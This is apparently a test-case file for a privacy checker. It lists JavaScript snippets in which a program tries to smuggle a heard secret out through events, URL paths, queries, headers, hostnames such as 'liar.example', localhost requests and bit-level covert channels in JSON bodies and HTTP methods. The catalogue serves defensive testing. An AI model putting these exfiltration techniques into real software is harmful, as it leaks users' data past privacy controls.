"""Tricks with what a program sends: events, addresses, headers, bodies."""

from tests.privacy.dishonest.cases import ASK, COUNTED, FORM, SEEN, Case


def _encoded(name: str, how: str, expression: str) -> Case:
    return Case(
        f"text {name}",
        f"writes what it heard {how} into a declared text",
        SEEN,
        f"wx.reportEvent('note', {{ text: {expression} }});",
        shows=("ledger", "operator"),
    )


SENDINGS: tuple[Case, ...] = (
    # -- events ---------------------------------------------------------------------------------------------------
    Case(
        "undeclared field",
        "adds a field to a declared event",
        FORM,
        "wx.reportEvent('told', { text: 'x', heard: secret });",
        plan=("memo", "told"),
        shows=("ledger", "operator"),
    ),
    Case(
        "undeclared event",
        "names an event after what it heard",
        "an event is an item of the plan",
        "wx.reportEvent(secret, {});",
        shows=("ledger", "operator"),
    ),
    _encoded("plainly", "as it is", "secret"),
    _encoded(
        "in base64",
        "in base64",
        "wx.arrayBufferToBase64(new Uint8Array([...secret].map((c) => c.charCodeAt(0))).buffer)",
    ),
    _encoded("in hexadecimal", "in hexadecimal", "[...secret].map((c) => c.charCodeAt(0).toString(16)).join('')"),
    _encoded("backwards", "backwards", "[...secret].reverse().join('')"),
    _encoded("in base 7", "in number base 7", "[...secret].map((c) => c.charCodeAt(0).toString(7)).join(' ')"),
    _encoded("as digits", "as the digits of numbers", "[...secret].map((c) => 1000 + c.charCodeAt(0)).join('')"),
    Case(
        "choice",
        "chooses among allowed values, a bit at a time",
        COUNTED,
        "for (let i = 0; i < 200; i++) wx.reportEvent('clicks', { button: secret.charCodeAt(i % 16) >> i % 8 & "
        "1 ? 'a' : 'b' });",
        outcome="detected",
        shows=("ledger", "operator", "budget"),
        plan=("memo", "clicks"),
        silent=False,
    ),
    Case(
        "priority",
        "chooses how urgent an allowed event is",
        "the priority counts as two bits",
        "for (let i = 0; i < 200; i++) wx.reportEvent('clicks', {});",
        outcome="detected",
        shows=("ledger", "operator", "budget"),
        plan=("memo", "clicks"),
        silent=False,
    ),
    Case(
        "no plan, name of an event",
        "has no plan, and names events after what it heard",
        "a program without a plan tells nothing once it has heard something",
        "wx.reportEvent(secret, {});",
        plan=None,
        shows=("ledger", "operator"),
    ),
    Case(
        "no plan, request",
        "has no plan, and asks its server for what it heard",
        "a program without a plan tells nothing once it has heard something",
        "await request('/' + secret);",
        plan=None,
    ),
    # -- addresses ------------------------------------------------------------------------------------------------
    Case(
        "split",
        "sends what it heard letter by letter in many requests",
        SEEN,
        "for (const letter of secret) await request('/v1/words?q=' + letter);",
        plan=("memo", "words"),
    ),
    Case("path", "puts it into the path", FORM, "await request('/v1/ask/' + secret);", plan=ASK),
    Case("deeper path", "puts it behind an allowed path", FORM, "await request('/v1/ask/news/' + secret);", plan=ASK),
    Case("query", "puts it into the query", FORM, "await request('/v1/ask?heard=' + secret);", plan=ASK),
    Case(
        "empty query",
        "writes the query with as many empty members as a letter says",
        FORM,
        "await request('/v1/ask?kind=news' + '&'.repeat(secret.charCodeAt(0)));",
        plan=ASK,
    ),
    Case(
        "escaped query",
        "escapes letters of an allowed value that need it not",
        "such escapes are undone",
        "await request('/v1/ask?kind=' + [...'news'].map((c, i) => secret.charCodeAt(0) >> i & 1 ? '%' + "
        "c.charCodeAt(0).toString(16) : c).join(''));",
        plan=ASK,
        silent=False,
        shows=("ledger",),
    ),
    Case(
        "fragment",
        "puts it into the fragment",
        "a fragment is not sent",
        "await request('/v1/ask/news#' + secret);",
        plan=ASK,
        silent=False,
        shows=("ledger",),
    ),
    Case(
        "user name",
        "puts it into the user name of the address",
        "an address has none",
        "await request(ORIGIN.replace('://', '://' + secret + '@') + '/v1/ask');",
        plan=ASK,
        shows=("program",),
    ),
    Case(
        "host",
        "puts it into the name of a host",
        "a host that the manifest does not name is not even looked up",
        "await request('https://' + secret.toLowerCase() + '.liar.example/');",
        plan=ASK,
        shows=("program",),
    ),
    Case(
        "this device",
        "asks another server on the device itself",
        "only declared origins are reached",
        "await request('http://localhost:1/' + secret); await request('http://127.0.0.1:1/' + secret);",
        plan=ASK,
        shows=("program",),
    ),
    # -- headers --------------------------------------------------------------------------------------------------
    *(
        Case(
            f"header {name}",
            f"puts it into the header {name}",
            FORM,
            f"await request('/v1/ask', {{ header: {{ '{name}': {value} }} }});",
            plan=ASK,
        )
        for name, value in {
            "X-Heard": "secret",
            "Cookie": "'heard=' + secret",
            "User-Agent": "secret",
            "Accept": "'text/' + secret",
            "Content-Type": "'multipart/form-data; boundary=' + secret",
            "Authorization": "'Bearer ' + secret",
        }.items()
    ),
    Case(
        "header spelling",
        "spells a plain header's name and value in capital and small letters",
        "names and values of headers have one spelling",
        "const mix = (text) => [...text].map((c, i) => secret.charCodeAt(0) >> i & 1 ? c.toUpperCase() : c).join('');\n"
        "await request('/v1/ask', { header: { [mix('accept')]: mix('application/json') } });",
        plan=ASK,
        silent=False,
        shows=("ledger",),
    ),
    Case(
        "method",
        "uses it as the method",
        "the methods are seven",
        "await request('/v1/ask', { method: secret.slice(0, 9) });",
        plan=ASK,
        shows=("program",),
    ),
    Case(
        "choice of method",
        "chooses among methods",
        "the method counts as three bits, the plain headers as more",
        "for (let i = 0; i < 40; i++) await request('/v1/quiet', { method: secret.charCodeAt(i % 16) & 1 ? "
        "'PUT' : 'POST' });",
        outcome="detected",
        shows=("program", "ledger", "operator", "budget"),
        plan=("memo", "quiet"),
        silent=False,
    ),
    # -- bodies ---------------------------------------------------------------------------------------------------
    Case(
        "JSON field",
        "adds a member to an allowed body",
        FORM,
        "await post('/v1/ask', { kind: 'news', heard: secret });",
        plan=ASK,
    ),
    Case(
        "JSON blanks",
        "counts letters in the blanks of an allowed body",
        FORM,
        "await post('/v1/ask', '{' + ' '.repeat(secret.charCodeAt(0)) + '\"kind\": \"news\"}');",
        plan=ASK,
    ),
    Case(
        "JSON escapes",
        "escapes letters of an allowed body",
        FORM,
        r"await post('/v1/ask', '{\"kind\": \"\\u006eews\"}');",
        plan=ASK,
    ),
    Case(
        "JSON twice",
        "says a member twice",
        FORM,
        'await post(\'/v1/ask\', \'{"kind": "\' + secret + \'", "kind": "news"}\');',
        plan=ASK,
    ),
    Case(
        "JSON numbers",
        "writes an allowed number in another form",
        FORM,
        "for (const form of ['46.90', '4.69e1', '46.9000000000001', '46.0']) await post('/v1/ask', '{\"lat\": ' "
        "+ form + '}');",
        plan=ASK,
    ),
    Case(
        "order of members",
        "orders the members of an allowed body",
        "the order counts, and so does what stands together",
        "for (let i = 0; i < 40; i++) await post('/v1/quiet', secret.charCodeAt(i % 16) & 1 ? { kind: 'news', "
        "lat: 1 } : { lat: 1, kind: 'news' });",
        outcome="detected",
        shows=("program", "ledger", "operator", "budget"),
        plan=("memo", "quiet"),
        silent=False,
    ),
    Case(
        "nested lists",
        "puts an allowed value into lists within lists",
        "each list counts as two bits",
        "for (let i = 0; i < 40; i++) { let kind = 'news'; for (let n = secret.charCodeAt(i % 16) % 12; "
        "n--;) kind = [kind]; await post('/v1/quiet', { kind }); }",
        outcome="detected",
        shows=("program", "ledger", "operator", "budget"),
        plan=("memo", "quiet"),
        silent=False,
    ),
    Case(
        "form body",
        "escapes letters of a form",
        FORM,
        "await post('/v1/ask', 'kind=%6eews', { 'content-type': 'application/x-www-form-urlencoded' });",
        plan=ASK,
    ),
)
